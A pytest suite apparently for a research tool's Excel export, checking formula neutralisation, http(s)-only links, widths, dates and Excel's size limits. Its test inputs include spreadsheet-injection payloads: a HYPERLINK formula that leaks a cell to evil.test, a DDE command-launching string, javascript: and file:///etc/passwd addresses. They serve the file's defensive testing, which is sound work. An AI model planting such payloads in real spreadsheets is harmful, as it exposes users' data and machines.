"""Excel (.xlsx) exports read back with openpyxl and fastexcel: text never runs, links only for http(s),
the header and widths a reader sees, dates as dates, Excel's limits kept without losing text."""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path

import export_factory as factory
import openpyxl
import polars as pl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from torq_nb.export import export, tabular
from torq_nb.research.batch import BatchResults, _Outcome

HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(A1)", "-3", "@cmd",
           "\tTAB", "http://title.test/looks-like-a-link", "plain text", "Ünïcødé 中文 😀"]


def sheet(path: Path, name: str = "results") -> Worksheet:
    ws = openpyxl.load_workbook(path)[name]
    assert isinstance(ws, Worksheet)
    return ws


def column(ws: Worksheet, header: str) -> list[object]:
    """The cells under ``header`` (openpyxl cell objects), header row left out."""
    names = [cell.value for cell in ws[1]]
    return list(next(ws.iter_cols(min_col=names.index(header) + 1, max_col=names.index(header) + 1, min_row=2)))


def test_hostile_text_reads_as_written_and_stays_text_never_a_formula_or_link(tmp_path: Path) -> None:
    rows = [factory.row(i + 1, title=text, snippet=text) for i, text in enumerate(HOSTILE)]
    path = export(factory.results(rows=rows), tmp_path / "r.xlsx")
    ws = sheet(path)
    for text, cell in zip(HOSTILE, column(ws, "title"), strict=True):
        assert cell.data_type == "s" and cell.hyperlink is None  # type: ignore[attr-defined]
        assert cell.value == text  # type: ignore[attr-defined]  # no "'" added: the text as the page had it
        assert cell.quotePrefix  # type: ignore[attr-defined]  # and Excel keeps it text when it is edited
    assert book_run_cell_quoted(path)
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet


def test_opt_out_keeps_text_verbatim_and_still_not_a_formula(tmp_path: Path) -> None:
    path = export(factory.results(rows=[factory.row(1, title=HOSTILE[0])]), tmp_path / "raw.xlsx", neutralize=False)
    cell = column(sheet(path), "title")[0]
    assert cell.value == HOSTILE[0] and cell.data_type == "s" and not cell.quotePrefix  # type: ignore[attr-defined]


def book_run_cell_quoted(path: Path) -> bool:
    """Whether the run sheet's values (the summary: page text) carry the quote prefix too."""
    return all(cell.quotePrefix for (cell,) in sheet(path, "run").iter_rows(min_row=2, min_col=2, max_col=2))


def test_a_column_of_http_urls_is_links_with_every_value_whole(tmp_path: Path) -> None:
    urls = ["https://example.org/a", "HTTP://example.org/b", "https://example.org/" + "a" * 300, "https://例え.jp/パス"]
    path = export(factory.results(rows=[factory.row(i + 1, url=u) for i, u in enumerate(urls)]), tmp_path / "u.xlsx")
    cells = column(sheet(path), "url")
    assert [c.value for c in cells] == urls  # type: ignore[attr-defined]  # every value whole, the long one too
    targets = [c.hyperlink.target if c.hyperlink else None for c in cells]  # type: ignore[attr-defined]
    assert targets[:3] == urls[:3] and targets[3] is not None


@pytest.mark.parametrize("other", ["javascript:alert(1)", "file:///etc/passwd", "file://attacker.test/share", "ftp://example.org/c",
                                   "=HYPERLINK(\"http://evil.test\")", "relative/page.html"])
def test_a_column_with_any_other_address_is_plain_text(tmp_path: Path, other: str) -> None:
    urls = ["https://example.org/a", other]
    path = export(factory.results(rows=[factory.row(i + 1, url=u) for i, u in enumerate(urls)]), tmp_path / "u.xlsx")
    cells = column(sheet(path), "url")
    assert [c.value for c in cells] == urls  # type: ignore[attr-defined]
    assert [c.hyperlink for c in cells] == [None, None]  # type: ignore[attr-defined]
    with zipfile.ZipFile(path) as zf:
        assert not any("rels" in name and "worksheets" in name for name in zf.namelist())  # no link target at all


def test_more_links_than_a_sheet_holds_are_plain_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tabular, "EXCEL_LINKS", 3)
    cells = column(sheet(export(factory.results(5), tmp_path / "many.xlsx")), "url")
    assert [c.hyperlink for c in cells] == [None] * 5  # type: ignore[attr-defined]
    assert all(str(c.value).startswith("https://") for c in cells)  # type: ignore[attr-defined]
    monkeypatch.setattr(tabular, "EXCEL_LINKS", 5)
    cells = column(sheet(export(factory.results(5), tmp_path / "five.xlsx")), "url")
    assert all(c.hyperlink is not None for c in cells)  # type: ignore[attr-defined]


def test_header_widths_dates_and_the_run_sheet(tmp_path: Path) -> None:
    rows = [factory.row(i, snippet="word " * 400) for i in range(1, 4)]  # 2,000-character snippets
    path = export(factory.results(rows=rows), tmp_path / "look.xlsx")
    book = openpyxl.load_workbook(path)
    ws = book["results"]
    assert book.sheetnames == ["results", "run"]
    assert ws.freeze_panes == "A2" and all(cell.font.b for cell in ws[1])
    assert ws.auto_filter.ref == f"A1:Q{len(rows) + 1}"
    names = [cell.value for cell in ws[1]]

    def width(name: str) -> float:
        letter = openpyxl.utils.get_column_letter(names.index(name) + 1)
        dims = next(d for d in ws.column_dimensions.values() if d.min <= names.index(name) + 1 <= d.max)
        return float(dims.width or ws.column_dimensions[letter].width)

    assert 50 <= width("snippet") <= 70  # capped, not 2,000 characters wide
    assert width("rank") >= len("rank") and width("title") < width("snippet")
    published, fetched = column(ws, "published")[0], column(ws, "fetched_at")[0]
    assert published.is_date and published.value == datetime(2024, 1, 2)  # type: ignore[attr-defined]
    assert fetched.is_date and fetched.value == datetime(2026, 11, 25, 12, 0, 1)  # type: ignore[attr-defined]
    assert column(ws, "rank")[0].value == 1 and column(ws, "score")[0].value == 1.0  # type: ignore[attr-defined]
    assert book["run"]["B2"].alignment.wrap_text  # the summary reads on several lines
    run = dict(book["run"].iter_rows(min_row=2, values_only=True))
    assert run["topic"] == "Solar energy" and run["depth"] == "standard" and run["results"] == "3"
    assert run["summary"].startswith("Solar panels convert light")
    assert run["state"] == "complete" and run["duration"] == "4.2"


def test_the_run_sheet_names_each_field_once(tmp_path: Path) -> None:
    results = factory.results(3)
    results.metadata.update({"duration": 7.978382982000767, "started_at": results.date, "pages": {"ok": 3}})
    book = openpyxl.load_workbook(export(results, tmp_path / "r.xlsx"))
    keys = [key for key, _ in book["run"].iter_rows(min_row=2, values_only=True)]
    assert len(keys) == len(set(keys)) and "started_at" not in keys, keys  # the date is there once, as "date"
    assert dict(book["run"].iter_rows(min_row=2, values_only=True))["pages"] == '{"ok": 3}'


def test_fastexcel_reads_the_table_back(tmp_path: Path) -> None:
    results = factory.results(6, fail_every=3)
    back = pl.read_excel(export(results, tmp_path / "r.xlsx"), sheet_name="results", engine="calamine")
    assert back.columns == results.df.columns and back.height == 6
    for name in ("rank", "title", "url", "status", "error", "http_status", "word_count"):
        assert back[name].cast(results.df.schema[name]).to_list() == results.df[name].to_list(), name
    assert back["published"].cast(pl.Date).to_list() == results.df["published"].to_list()


def test_text_over_excel_cell_limit_continues_in_next_columns(tmp_path: Path) -> None:
    page = "".join(f"{i:07d} " for i in range(10_000))  # 80,000 characters
    rows = [factory.row(1), factory.row(2)]
    rows[0]["content"] = page
    path = export(factory.results(rows=rows), tmp_path / "long.xlsx")
    ws = sheet(path)
    names = [cell.value for cell in ws[1]]
    at = names.index("content")
    assert names[at:at + 4] == ["content", "content (2)", "content (3)", "word_count"]
    first = [cell.value for cell in ws[2]][at:at + 3]
    assert all(len(part) <= tabular.EXCEL_CELL_CHARS for part in first) and "".join(first) == page
    assert [cell.value for cell in ws[3]][at + 1:at + 3] == [None, None]


def test_long_text_beyond_the_basic_plane_is_kept_whole(tmp_path: Path) -> None:
    page = "😀 Ünï 中文 " * 5_000  # 45,000 characters, 50,000 UTF-16 units as Excel counts them
    rows = [factory.row(1, snippet=page)]
    book = openpyxl.load_workbook(export(factory.results(rows=rows), tmp_path / "emoji.xlsx"))
    ws = book["results"]
    names = [cell.value for cell in ws[1]]
    parts = [value for name, value in zip(names, [cell.value for cell in ws[2]]) if str(name).startswith("snippet")]
    assert len(parts) == 3 and "".join(parts) == page
    assert all(len(part.encode("utf-16-le")) // 2 <= tabular.EXCEL_CELL_CHARS for part in parts)


def test_empty_results_give_a_header_row(tmp_path: Path) -> None:
    ws = sheet(export(factory.results(0), tmp_path / "empty.xlsx"))
    assert [cell.value for cell in ws[1]][:3] == ["rank", "title", "url"]


def test_zip_bundle_and_batch_exports_hold_the_workbook(tmp_path: Path) -> None:
    with zipfile.ZipFile(export(factory.results(2), tmp_path / "bundle.zip")) as zf:
        assert "bundle.xlsx" in zf.namelist()
        (tmp_path / "member.xlsx").write_bytes(zf.read("bundle.xlsx"))
    assert len(column(sheet(tmp_path / "member.xlsx"), "url")) == 2
    batch = BatchResults(["solar", "wind"], {"solar": _Outcome("complete", "solar", factory.results(2, topic="solar")),
                                             "wind": _Outcome("failed", "wind", reason="no results")})
    ws = sheet(Path(batch.export(tmp_path / "batch.xlsx")))
    assert [cell.value for cell in ws[1]][:2] == ["topic", "rank"]
    assert [cell.value for cell in column(ws, "topic")] == ["solar", "solar"]  # type: ignore[attr-defined]
    with zipfile.ZipFile(batch.export(tmp_path / "batch.zip")) as zf:
        assert "batch.xlsx" in zf.namelist()


def test_any_frame_keeps_every_value_a_sheet_can_hold(tmp_path: Path) -> None:
    df = pl.DataFrame({
        "score": [float("nan"), float("inf"), -float("inf")],
        "tags": [["a", "b"], [], None],
        "where": [{"city": "Zürich", "n": 1}, None, {"city": "=cmd", "n": 2}],
        "kind": pl.Series(["x", "=y", None], dtype=pl.Categorical),
        "at": pl.Series([datetime(2026, 1, 1, 13)] * 3).dt.replace_time_zone("Europe/Paris"),
        "nothing": [None, None, None],
    })
    ws = sheet(export(df, tmp_path / "frame.xlsx"))
    values = {name: [cell.value for cell in column(ws, name)] for name in df.columns}  # type: ignore[attr-defined]
    assert values["score"] == [None, "INF", "-INF"]
    assert values["tags"] == ['["a", "b"]', "[]", None]
    assert values["where"] == ['{"city": "Zürich", "n": 1}', None, '{"city": "=cmd", "n": 2}']  # starts with "{": not a formula
    assert values["kind"] == ["x", "=y", None]
    assert values["at"] == [datetime(2026, 1, 1, 12)] * 3  # 13:00 in Paris is 12:00 UTC
    assert values["nothing"] == [None] * 3
    with pytest.raises(ValueError, match=r"object column\(s\) thing; convert them to text or drop them"):
        export(pl.DataFrame({"thing": [object()]}, schema={"thing": pl.Object}), tmp_path / "thing.xlsx")
    assert not (tmp_path / "thing.xlsx").exists()


def test_more_rows_than_excel_holds_is_refused_before_writing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tabular, "EXCEL_ROWS", 2)
    with pytest.raises(ValueError, match=r"at most 2 rows .* has 3; export CSV or Parquet"):
        export(factory.results(3), tmp_path / "big.xlsx")
    assert list(tmp_path.iterdir()) == []
    ws = sheet(export(pl.DataFrame({"url": [None, None]}), tmp_path / "null.xlsx"))
    assert [cell.value for cell in ws[1]] == ["url"] and ws.auto_filter.ref == "A1:A3"  # two empty rows under the header
